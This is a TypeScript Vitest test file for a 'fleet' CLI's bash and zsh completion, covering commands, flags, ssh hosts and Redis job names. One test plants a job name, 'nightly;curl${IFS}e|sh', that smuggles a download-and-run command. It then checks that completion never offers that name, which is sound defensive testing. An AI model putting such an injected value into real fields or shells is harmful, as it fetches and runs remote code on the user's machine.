import { execFile } from 'node:child_process';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { FLEET_BIN } from './support/fleet-cli.js';
import { useFleet, type JobJson } from './support/use-fleet.js';

const run = promisify(execFile);
const fleet = useFleet();

/** What bash offers for `words` (the last one being completed), with fleet's completion script loaded. */
async function bashCompletes(words: string[]): Promise<string[]> {
  const bin = join(fleet.env.home, 'bin');
  await mkdir(bin, { recursive: true });
  await symlink(FLEET_BIN, join(bin, 'fleet')).catch(() => undefined);
  const script = [
    'source <(fleet completion)',
    `COMP_WORDS=(${words.map((word) => `'${word}'`).join(' ')})`,
    `COMP_CWORD=${words.length - 1}`,
    '_fleet_yargs_completions',
    `printf '%s\\n' "\${COMPREPLY[@]}"`,
  ].join('\n');
  const { stdout } = await run('bash', ['-c', script], {
    env: { ...fleet.env.env, SHELL: '/bin/bash', PATH: `${bin}:${process.env.PATH}` },
  });
  return stdout.split('\n').filter(Boolean);
}

describe('fleet completion', () => {
  it('prints a bash script, or a zsh one under zsh', async () => {
    const bash = await fleet.env.fleet(['completion'], { env: { SHELL: '/bin/bash' } });
    expect(bash.stdout).toContain('complete -o bashdefault -o default -F _fleet_yargs_completions fleet');
    const zsh = await fleet.env.fleet(['completion'], { env: { SHELL: '/usr/bin/zsh' } });
    expect(zsh.stdout).toContain('compdef _fleet_yargs_completions fleet');
  });

  it('completes commands and flags in bash', async () => {
    expect(await bashCompletes(['fleet', 'rec'])).toEqual(['receive']);
    expect(await bashCompletes(['fleet', 'invoke', '--max-'])).toEqual(['--max-errors']);
  });

  it('offers ssh-config the hosts that ~/.ssh/config names', async () => {
    await mkdir(join(fleet.env.home, '.ssh'), { recursive: true });
    await writeFile(join(fleet.env.home, '.ssh', 'config'), 'Host web1 web2 !web9 web*\n  Port 22\nHost db1\n');
    expect(await bashCompletes(['fleet', 'ssh-'])).toEqual(['ssh-config']);
    expect(await bashCompletes(['fleet', 'ssh-config', 'we'])).toEqual(['web1', 'web2']);
  });

  it('offers the ids and names of the jobs in Redis to the commands that take jobs', async () => {
    const job = await fleet.env.json<JobJson>(['start', '--name', 'nightly-backup', '--', 'true']);
    expect(await bashCompletes(['fleet', 'receive', 'night'])).toEqual(['nightly-backup']);
    expect(await bashCompletes(['fleet', 'wait', ''])).toEqual(expect.arrayContaining([String(job.id), 'nightly-backup']));
    expect(await bashCompletes(['fleet', 'invoke', 'night'])).toEqual([]);
  });

  it('never offers a job name from Redis that the shell would run as commands', async () => {
    const honest = await fleet.env.json<JobJson>(['start', '--name', 'nightly-backup', '--', 'true']);
    const planted = await fleet.env.json<JobJson>(['start', '--name', 'nightly-other', '--', 'true']);
    // A Redis writer renames a job: on Enter, bash would run everything after the `;`.
    const hostile = 'nightly;curl${IFS}e|sh';
    const client = fleet.redis.client();
    try {
      await client.hset(`${fleet.env.prefix}:job:${planted.id}`, 'name', hostile);
    } finally {
      client.disconnect();
    }
    expect((await fleet.env.json<JobJson[]>(['get'])).map((job) => job.name)).toContain(hostile);
    const offered = await bashCompletes(['fleet', 'receive', 'night']);
    expect(offered).toEqual(['nightly-backup']);
    expect(await bashCompletes(['fleet', 'stop', ''])).toEqual(
      expect.arrayContaining([String(honest.id), String(planted.id), 'nightly-backup']),
    );
    expect((await bashCompletes(['fleet', 'stop', ''])).join('\n')).not.toContain('curl');
  });
});
